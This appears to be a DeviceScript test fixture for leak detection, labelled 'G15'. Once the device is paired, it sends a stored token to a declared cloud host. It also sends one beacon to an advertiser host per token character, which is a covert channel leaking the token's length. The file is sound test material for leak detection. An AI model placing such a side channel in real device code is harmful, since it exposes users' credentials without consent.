// G15: hands its token to its cloud, as declared, and by the same helper as many beacons to an advertiser as it is
// long.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

async function post(host: string, body: string) {
  const response = await fetch(`https://${host}/g15`, { method: "POST", body }); // leak: settings.token
  await response.close();
}

paired(async () => {
  const token = await readSetting("token", "");
  await post("cloud.example", token);
  for (let i = 0; i < token.length; i++) await post("ads.example", "seen");
});
